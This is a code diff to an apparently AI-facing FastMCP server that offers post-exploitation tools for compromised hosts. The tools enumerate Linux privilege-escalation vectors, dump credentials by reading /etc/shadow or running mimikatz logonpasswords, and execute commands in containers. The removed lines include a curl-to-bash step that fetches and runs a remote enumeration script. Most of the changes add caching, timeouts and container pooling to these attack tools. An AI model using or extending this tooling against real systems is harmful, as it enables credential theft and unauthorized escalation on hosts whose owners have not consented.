@@ -1,31 +1,214 @@
 import asyncio
+import uvloop
+import atexit
+import hashlib
+import time
+from collections import OrderedDict, defaultdict
+from cachetools import TTLCache
+from capstone import Cs, CS_ARCH_X86, CS_MODE_32, CS_MODE_64
 from fastmcp import FastMCP, Context
 from fastmcp.exceptions import ToolError
-from typing import Annotated, Literal, Optional, List, Dict, Any
+from typing import Annotated, Literal, Optional, List, Dict, Any, Tuple
 from pydantic import Field
 import os
+import signal
 import subprocess
+import uuid
 
 # --- IV. Post-Exploitation & Lateral Movement ---
 mcp_post_exploit = FastMCP(name="PostExploitationTools", instructions="Tools for actions after gaining initial access.")
 
+# Cap on captured stdout/stderr per stream for commands with unbounded output.
+MAX_OUTPUT_BYTES = 1024 * 1024
+
+# Independent Linux enumeration checks, run concurrently by run_privilege_escalation_check.
+PRIVESC_CATS: List[Tuple[str, List[str]]] = [
+    ("kernel", ["uname", "-a"]),
+    ("os_release", ["cat", "/etc/os-release"]),
+    ("identity", ["id"]),
+    ("sudo", ["sudo", "-n", "-l"]),
+    ("sudoers_d", ["ls", "-la", "/etc/sudoers.d"]),
+    # Pseudo-filesystems hold no binaries and only produce permission-denied noise.
+    ("suid", ["find", "/", "(", "-path", "/proc", "-o", "-path", "/sys", ")", "-prune", "-o", "-perm", "-4000", "-type", "f", "-print"]),
+    ("sgid", ["find", "/", "(", "-path", "/proc", "-o", "-path", "/sys", ")", "-prune", "-o", "-perm", "-2000", "-type", "f", "-print"]),
+    ("capabilities", ["sh", "-c", 'for d in /*; do case "$d" in /proc|/sys|/dev|/run) ;; *) getcap -r "$d";; esac; done']),
+    ("world_writable_dirs", ["find", "/", "-xdev", "-type", "d", "-perm", "-0002"]),
+    ("world_writable_etc", ["find", "/etc", "-type", "f", "-perm", "-0002"]),
+    ("sensitive_file_perms", ["ls", "-l", "/etc/passwd", "/etc/shadow", "/etc/sudoers"]),
+    ("users", ["cat", "/etc/passwd"]),
+    ("cron", ["sh", "-c", "cat /etc/crontab; ls -la /etc/cron.*"]),
+    ("systemd_timers", ["systemctl", "list-timers", "--all", "--no-pager"]),
+    ("processes", ["ps", "aux"]),
+    ("listeners", ["ss", "-tulpn"]),
+    ("mounts", ["cat", "/proc/mounts"]),
+    ("environment", ["env"]),
+    ("ssh_material", ["find", "/home", "/root", "-name", "id_*", "-o", "-name", "authorized_keys"]),
+    ("container", ["sh", "-c", "ls -la /.dockerenv /var/run/docker.sock; cat /proc/1/cgroup"]),
+]
+PRIVESC_CAT_TIMEOUT_SECONDS = 120
+PRIVESC_CONCURRENCY = 8
+
+# Results of slow per-session tools, keyed by (session_id, target_os, method).
+_session_cache: TTLCache = TTLCache(maxsize=64, ttl=600)
+# Hit/miss counts and total compute time per tool, reported through ctx.info.
+_cache_stats: Dict[str, Dict[str, float]] = defaultdict(lambda: {"hits": 0, "misses": 0, "total_time": 0.0})
+
+async def _cache_lookup(ctx: Context, monitoring_name: str, key: Tuple[str, str, str]) -> Optional[Dict[str, Any]]:
+    result = _session_cache.get(key)
+    if result is not None:
+        stats = _cache_stats[monitoring_name]
+        stats["hits"] += 1
+        await ctx.info(f"{monitoring_name}: cache hit for session {key[0]} (hits={stats['hits']:.0f}, misses={stats['misses']:.0f})")
+    return result
+
+async def _cache_store(ctx: Context, monitoring_name: str, key: Tuple[str, str, str], result: Dict[str, Any], started: float, cacheable: bool = True):
+    """Records the miss and caches `result`; failed or partial results pass cacheable=False so a retry recomputes them."""
+    stats = _cache_stats[monitoring_name]
+    stats["misses"] += 1
+    stats["total_time"] += time.perf_counter() - started
+    if cacheable:
+        _session_cache[key] = result
+    await ctx.info(f"{monitoring_name}: cache miss for session {key[0]} (hits={stats['hits']:.0f}, misses={stats['misses']:.0f}, avg_fn_time={stats['total_time'] / stats['misses']:.2f}s)")
+
+def _kill_group(proc: asyncio.subprocess.Process):
+    if proc.returncode is None:
+        try:
+            os.killpg(proc.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+
+async def _read_capped(proc: asyncio.subprocess.Process, stream: asyncio.StreamReader, buf: bytearray, max_bytes: int) -> bool:
+    """Drains `stream` into `buf`, killing `proc` once `max_bytes` is reached. Returns True if truncated."""
+    while chunk := await stream.read(65536):
+        buf += chunk[:max_bytes - len(buf)]
+        if len(buf) >= max_bytes:
+            _kill_group(proc)
+            return True
+    return False
+
+async def _run_bounded(cmd: List[str], timeout: int, max_bytes: int = MAX_OUTPUT_BYTES, capture_stderr: bool = True) -> Dict[str, Any]:
+    """
+    Runs `cmd` streaming stdout/stderr into capped buffers, killing it on timeout or when a cap is hit.
+    With capture_stderr=False stderr goes to /dev/null, so noisy diagnostics can't trip the cap.
+    """
+    # Own process group so pipelines spawned by `cmd` die with it.
+    proc = await asyncio.create_subprocess_exec(
+        *cmd, stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.PIPE if capture_stderr else asyncio.subprocess.DEVNULL,
+        start_new_session=True
+    )
+    out, err = bytearray(), bytearray()
+    streams = [(proc.stdout, out)] + ([(proc.stderr, err)] if capture_stderr else [])
+    readers = asyncio.gather(*(_read_capped(proc, stream, buf, max_bytes) for stream, buf in streams))
+    timed_out = truncated = False
+    try:
+        truncated = any(await asyncio.wait_for(readers, timeout))
+    except asyncio.TimeoutError:
+        timed_out = True
+        _kill_group(proc)
+    await proc.wait()
+    return {
+        "stdout": out.decode(errors="replace"),
+        "stderr": err.decode(errors="replace"),
+        "return_code": proc.returncode,
+        "truncated": truncated,
+        "timed_out": timed_out,
+    }
+
 @mcp_post_exploit.tool()
 async def run_privilege_escalation_check(
     session_id: Annotated[str, Field(description="The ID of the active session.")],
     target_os: Annotated[Literal["linux", "windows"], Field(description="Operating system of the compromised host.")],
     ctx: Context
 ) -> Dict[str, Any]:
+    key = (session_id, target_os, "privesc")
+    if (cached := await _cache_lookup(ctx, "run_privilege_escalation_check", key)) is not None:
+        return cached
+    started = time.perf_counter()
     await ctx.info(f"Running privilege escalation checks on session {session_id}")
+    complete = True
     if target_os=='linux':
-        proc = await asyncio.create_subprocess_exec('sh', '-c', 'curl -sL https://github.com/rebootuser/LinEnum/raw/master/LinEnum.sh | bash', stdout=asyncio.subprocess.PIPE)
-        out,_ = await proc.communicate()
-        vectors = out.decode().splitlines()
+        sem = asyncio.Semaphore(PRIVESC_CONCURRENCY)
+
+        async def run_cat(name: str, cmd: List[str]) -> Tuple[str, List[str]]:
+            nonlocal complete
+            async with sem:
+                try:
+                    result = await _run_bounded(cmd, PRIVESC_CAT_TIMEOUT_SECONDS, capture_stderr=False)
+                except FileNotFoundError:
+                    return name, [f"{cmd[0]} not installed or not in PATH."]
+            lines = result["stdout"].splitlines()
+            if result["timed_out"]:
+                complete = False
+                lines.append(f"[timed out after {PRIVESC_CAT_TIMEOUT_SECONDS}s]")
+            return name, lines
+
+        vectors = dict(await asyncio.gather(*(run_cat(name, cmd) for name, cmd in PRIVESC_CATS)))
     else:
         # assume winPEAS installed
         proc = await asyncio.create_subprocess_exec('powershell', '-Command', 'Get-Content C:\tools\winPEAS.bat', stdout=asyncio.subprocess.PIPE)
         out,_ = await proc.communicate()
-        vectors = out.decode().splitlines()
-    return {"session_id": session_id, "potential_vectors": vectors}
+        vectors = [line.decode(errors="replace") for line in out.splitlines()]
+        complete = proc.returncode == 0
+    result = {"session_id": session_id, "potential_vectors": vectors}
+    await _cache_store(ctx, "run_privilege_escalation_check", key, result, started, cacheable=complete)
+    return result
+
+# Warm container reused by sandbox_shellcode_execution; shellcode is piped in over stdin.
+SANDBOX_IMAGE = "ubuntu:latest"
+# Per-process suffix for container names so concurrent servers never touch each other's containers.
+_INSTANCE_ID = uuid.uuid4().hex[:8]
+# Every container this process starts carries this label, so shutdown can find and kill them all.
+_OWNER_LABEL = f"loki.owner={_INSTANCE_ID}"
+SANDBOX_CONTAINER = f"loki_sbx_{_INSTANCE_ID}"
+_sandbox_lock = asyncio.Lock()
+_sandbox_ready = False
+
+def _kill_owned_containers():
+    """Kills every container started by this process (sandbox and warm pool); safe to call twice."""
+    try:
+        ids = subprocess.run(
+            ["docker", "ps", "-q", "--filter", f"label={_OWNER_LABEL}"], capture_output=True, check=False
+        ).stdout.split()
+        if ids:
+            subprocess.run(["docker", "kill", *map(bytes.decode, ids)], capture_output=True, check=False)
+    except FileNotFoundError:
+        pass
+
+def _on_sigterm(signum, frame):
+    # MCP clients stop stdio servers with SIGTERM, which skips atexit; clean up, then die as before.
+    _kill_owned_containers()
+    signal.signal(signum, signal.SIG_DFL)
+    os.kill(os.getpid(), signum)
+
+atexit.register(_kill_owned_containers)
+
+async def _ensure_sandbox() -> bool:
+    """Starts the warm sandbox container on first use. Returns False if it could not be started."""
+    global _sandbox_ready
+    async with _sandbox_lock:
+        if _sandbox_ready:
+            return True
+        proc = await asyncio.create_subprocess_exec(
+            "docker", "run", "-d", "--rm", "--name", SANDBOX_CONTAINER, "--label", _OWNER_LABEL, "--read-only",
+            "--tmpfs", "/tmp", SANDBOX_IMAGE, "sleep", "infinity",
+            stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL
+        )
+        if await proc.wait() == 0:
+            _sandbox_ready = True
+        return _sandbox_ready
+
+async def _container_running(name: str) -> bool:
+    proc = await asyncio.create_subprocess_exec(
+        "docker", "inspect", "-f", "{{.State.Running}}", name,
+        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL
+    )
+    out, _ = await proc.communicate()
+    return proc.returncode == 0 and out.strip() == b"true"
+
+def _read_lines(path: str) -> List[str]:
+    with open(path) as f:
+        return f.read().splitlines()
 
 @mcp_post_exploit.tool()
 async def dump_credentials(
@@ -34,54 +217,155 @@ async def dump_credentials(
     ctx: Context,
     method: Annotated[Literal["mimikatz_lsass", "hashdump_sam", "read_shadow", "kerberos_tickets"], Field(description="Method to use.")]="mimikatz_lsass"
 ) -> Dict[str, Any]:
+    key = (session_id, target_os, method)
+    if (cached := await _cache_lookup(ctx, "dump_credentials", key)) is not None:
+        return cached
+    started = time.perf_counter()
     await ctx.info(f"Dumping credentials on session {session_id} method={method}")
     creds = None
+    # e.g. /etc/shadow is unreadable until the session has escalated; don't pin that error.
+    failed = False
     if target_os=='linux' and method=='read_shadow':
         try:
-            with open('/etc/shadow') as f: 
-                creds = f.read().splitlines()
+            creds = await asyncio.to_thread(_read_lines, '/etc/shadow')
         except Exception as e: 
             creds = [str(e)]
+            failed = True
     elif target_os=='windows' and method=='mimikatz_lsass':
         proc = await asyncio.create_subprocess_exec('mimikatz', '"sekurlsa::logonpasswords"', stdout=asyncio.subprocess.PIPE)
         out,_ = await proc.communicate()
-        creds = out.decode().splitlines()
-    return {"session_id": session_id, "credentials": creds}
+        creds = [line.decode(errors="replace") for line in out.splitlines()]
+        failed = proc.returncode != 0
+    result = {"session_id": session_id, "credentials": creds}
+    await _cache_store(ctx, "dump_credentials", key, result, started, cacheable=not failed)
+    return result
+
+@mcp_post_exploit.tool()
+async def invalidate_cache(
+    session_id: Annotated[str, Field(description="The ID of the session whose cached results should be dropped.")],
+    ctx: Context
+) -> Dict[str, Any]:
+    stale = [key for key in list(_session_cache.keys()) if key[0] == session_id]
+    for key in stale:
+        _session_cache.pop(key, None)
+    await ctx.info(f"Invalidated {len(stale)} cached result(s) for session {session_id}")
+    return {"session_id": session_id, "invalidated": len(stale)}
 
 @mcp_post_exploit.tool()
 async def sandbox_shellcode_execution(
     shellcode_hex: Annotated[str, Field(description="Hex-encoded shellcode to execute.")],
     ctx: Context,
-    arch: Annotated[Literal["x86","x64"], Field(description="Architecture of the shellcode.")] = "x86"
+    arch: Annotated[Literal["x86","x64"], Field(description="Architecture of the shellcode.")] = "x86",
+    use_sandbox: Annotated[bool, Field(description="Disassemble with objdump inside the sandbox container instead of in-process with capstone.")] = False
 ) -> Dict[str, Any]:
+    global _sandbox_ready
+    shellcode = bytes.fromhex(shellcode_hex)
+    if not use_sandbox:
+        await ctx.info("Disassembling shellcode in-process")
+        md = Cs(CS_ARCH_X86, CS_MODE_32 if arch=='x86' else CS_MODE_64)
+        disasm = [f"{i.address:x}:\t{i.bytes.hex()}\t{i.mnemonic} {i.op_str}".rstrip() for i in md.disasm(shellcode, 0)]
+        return {"arch": arch, "disassembly": disasm}
     await ctx.info("Executing shellcode in sandboxed container")
-    bin_path = "shellcode.bin"
-    with open(bin_path, "wb") as f:
-        f.write(bytes.fromhex(shellcode_hex))
-    image = "ubuntu:latest"
-    cmd = [
-        "docker", "run", "--rm", "-v",
-        f"{os.getcwd()}/{bin_path}:/shellcode.bin", image,
-        "bash", "-c",
-        f"objdump -D -b binary -m {'i386' if arch=='x86' else 'x86_64'} /shellcode.bin"
-    ]
-    proc = await asyncio.create_subprocess_exec(*cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
-    out, _ = await proc.communicate()
-    return {"arch": arch, "disassembly": out.decode().splitlines()}
+    # objdump needs a seekable file, so stage stdin in a per-call tmpfs file inside the container.
+    script = f"sc=$(mktemp) && cat > \"$sc\" && objdump -D -b binary -m {'i386' if arch=='x86' else 'x86_64'} \"$sc\"; rm -f \"$sc\""
+    out = b""
+    if await _ensure_sandbox():
+        proc = await asyncio.create_subprocess_exec(
+            "docker", "exec", "-i", SANDBOX_CONTAINER, "bash", "-c", script,
+            stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
+        )
+        out, _ = await proc.communicate(shellcode)
+        if proc.returncode != 0 and not await _container_running(SANDBOX_CONTAINER):
+            # Container went away; restart it on the next call and use a one-shot run now.
+            _sandbox_ready = False
+    if not _sandbox_ready:
+        cmd = ["docker", "run", "--rm", "-i", SANDBOX_IMAGE, "bash", "-c", script]
+        proc = await asyncio.create_subprocess_exec(*cmd, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
+        out, _ = await proc.communicate(shellcode)
+    return {"arch": arch, "disassembly": [line.decode(errors="replace") for line in out.splitlines()]}
+
+# Warm per-image containers for containerized_command_execution, least recently used first.
+MAX_WARM_CONTAINERS = 4
+_warm_containers: "OrderedDict[str, str]" = OrderedDict()
+# Number of calls currently running commands in each warm container; busy ones are never evicted.
+_warm_in_use: Dict[str, int] = defaultdict(int)
+_warm_lock = asyncio.Lock()
+
+async def _docker_quiet(*args: str) -> int:
+    proc = await asyncio.create_subprocess_exec("docker", *args, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL)
+    return await proc.wait()
+
+async def _evict_idle_containers():
+    """Kills least recently used idle containers while the pool is over MAX_WARM_CONTAINERS. Caller holds _warm_lock."""
+    while len(_warm_containers) > MAX_WARM_CONTAINERS:
+        idle = next((image for image, name in _warm_containers.items() if not _warm_in_use[name]), None)
+        if idle is None:
+            return
+        evicted = _warm_containers.pop(idle)
+        _warm_in_use.pop(evicted, None)
+        await _docker_quiet("kill", evicted)
+
+async def _acquire_warm_container(image: str) -> Optional[str]:
+    """
+    Returns the name of a running container for `image`, starting one if needed, and
+    marks it busy until _release_warm_container. Returns None if it could not be started.
+    """
+    async with _warm_lock:
+        if image in _warm_containers:
+            _warm_containers.move_to_end(image)
+            name = _warm_containers[image]
+        else:
+            name = f"loki_{_INSTANCE_ID}_{hashlib.sha1(image.encode()).hexdigest()[:12]}"
+            if await _docker_quiet("run", "-d", "--rm", "--name", name, "--label", _OWNER_LABEL, image, "sleep", "infinity") != 0:
+                return None
+            _warm_containers[image] = name
+        _warm_in_use[name] += 1
+        await _evict_idle_containers()
+        return name
+
+async def _release_warm_container(image: str, name: str, dead: bool = False):
+    # Bookkeeping happens before any await so it survives cancellation of the caller.
+    _warm_in_use[name] -= 1
+    if _warm_in_use[name] <= 0:
+        del _warm_in_use[name]
+    if dead and _warm_containers.get(image) == name:
+        del _warm_containers[image]
+    async with _warm_lock:
+        await _evict_idle_containers()
 
 @mcp_post_exploit.tool()
 async def containerized_command_execution(
     commands: Annotated[str, Field(description="Commands to run inside the container.")],
     ctx: Context,
-    image: Annotated[str, Field(description="Container image to use.")] = "ubuntu:latest"
+    image: Annotated[str, Field(description="Container image to use.")] = "ubuntu:latest",
+    timeout_seconds: Annotated[int, Field(description="Maximum time in seconds to wait for the commands to complete.", ge=1, le=3600)] = 300
 ) -> Dict[str, Any]:
     await ctx.info(f"Running commands in container {image}")
-    cmd = ["docker", "run", "--rm", image, "bash", "-c", commands]
-    proc = await asyncio.create_subprocess_exec(*cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
-    stdout, stderr = await proc.communicate()
-    return {"stdout": stdout.decode(), "stderr": stderr.decode()}
+    # `timeout` inside the container stops runaway commands even if the docker client is killed first.
+    inner = ["timeout", str(timeout_seconds), "bash", "-c", commands]
+    name = await _acquire_warm_container(image)
+    if name is None:
+        result = await _run_bounded(["docker", "run", "--rm", image, *inner], timeout_seconds)
+    else:
+        dead = False
+        try:
+            result = await _run_bounded(["docker", "exec", name, *inner], timeout_seconds)
+            # The commands may already have run, so a container that died under them is
+            # reported, never retried; the next call starts a fresh one.
+            dead = result["return_code"] != 0 and not result["timed_out"] and not await _container_running(name)
+        finally:
+            await _release_warm_container(image, name, dead)
+        if dead:
+            await ctx.warning(f"Container {name} stopped while running the commands; they were not retried")
+    if result["truncated"]:
+        await ctx.warning(f"Container output exceeded {MAX_OUTPUT_BYTES} bytes and was truncated")
+    if result["timed_out"]:
+        await ctx.warning(f"Container commands timed out after {timeout_seconds} seconds")
+    return result
 
 
 if __name__ == "__main__":
     print("Cybersecurity AI Post exploit service starting...")
+    signal.signal(signal.SIGTERM, _on_sigterm)
+    uvloop.install()
     mcp_post_exploit.run(transport="stdio")
\ No newline at end of file